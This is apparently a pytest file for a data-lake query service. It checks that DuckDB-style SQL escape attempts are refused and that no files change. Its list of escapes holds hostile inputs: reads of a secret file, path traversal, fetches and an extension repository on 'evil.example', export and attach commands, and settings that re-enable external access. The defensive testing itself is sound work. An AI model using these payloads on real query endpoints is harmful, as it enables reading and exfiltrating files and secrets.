"""Test that no statement leaves the database of the server: it reads published files, and nothing else."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.support.small_warehouse import gold_of, publish, warehouse

from tribolake.lake.replicas import open_objects
from tribolake.oil.product import OIL
from tribolake.settings import Settings, load_settings
from tribolake.trace.pinned import PinnedObjects
from tribolake.trace.published_rows import published_rows
from tribolake.trace.query import QueryFailed

# {secret} is a file beside the lake, {out} one that is not there, {other} an earlier publication.
ESCAPES = (
    "from read_csv('{secret}')",
    "from '{secret}'",
    "from read_text('{secret}')",
    "from read_blob('{secret}')",
    "from read_json('{secret}')",
    "from read_parquet('{other}')",
    "from read_blob('{own}/../../secret.csv')",
    "from glob('{folder}/*')",
    "from sniff_csv('{secret}')",
    "from parquet_metadata('{other}')",
    "from read_csv('https://evil.example/x.csv')",
    "from read_parquet('s3://elsewhere/x.parquet')",
    "from query('from read_text(''{secret}'')')",
    "from query_table('{secret}')",
    "select (select any_value(content) from read_text('{secret}'))",
    "with x as (from read_text('{secret}')) from x",
    "select * from results where exists (from read_blob('{secret}'))",
    "create view leak as from read_text('{secret}')",
    "create table leak as from read_text('{secret}')",
    "copy (from results) to '{out}'",
    "copy results from '{secret}'",
    "export database '{out}'",
    "import database '{folder}'",
    "attach '{out}'",
    "attach '{secret}' as leak (type sqlite)",
    "install httpfs",
    "load httpfs",
    "load '{secret}'",
    "set enable_external_access = true",
    "reset enable_external_access",
    "set allowed_paths = ['{secret}']",
    "set allowed_directories = ['/']",
    "set lock_configuration = false",
    "set temp_directory = '{out}'",
    "set home_directory = '{out}'",
    "set custom_extension_repository = 'http://evil.example'",
    "set autoinstall_known_extensions = true",
    "set memory_limit = '100GB'",
    "pragma profiling_output = '{out}'",
    "set log_query_path = '{out}'",
    "create persistent secret leak (type s3, key_id 'a', secret 'b')",
    "select getenv('HOME')",
    "select 1; copy (select 1) to '{out}'",
)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """A lake with two publications, and a file beside it."""
    settings = load_settings(lake=tmp_path_factory.mktemp("server") / "lake")
    settings.lake.mkdir()
    publish(warehouse(1, rows=20), settings.lake, "run-1")
    publish(warehouse(2, rows=20), settings.lake, "run-2", "2026-02-01")
    (settings.lake.parent / "secret.csv").write_text("a\n1\n", encoding="utf-8")
    return settings


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("escape", ESCAPES)
def test_escape_from_the_database_is_refused(server: Settings, escape: str):
    versions = gold_of(server.lake) / "_versions"
    names = {
        "secret": server.lake.parent / "secret.csv",
        "folder": server.lake.parent,
        "out": server.lake.parent / "out",
        "other": versions / "run-1" / "results.parquet",
        "own": versions / "run-2" / "results.parquet",
    }
    assert Path(names["other"]).is_file() and Path(names["own"]).is_file()
    before = contents(server.lake.parent)
    objects = PinnedObjects(open_objects(server))
    with pytest.raises(QueryFailed):
        published_rows(OIL.contract, objects, escape.format(**names))
    assert contents(server.lake.parent) == before
    assert published_rows(OIL.contract, objects, "select distinct mark from results") == [{"mark": 2}]
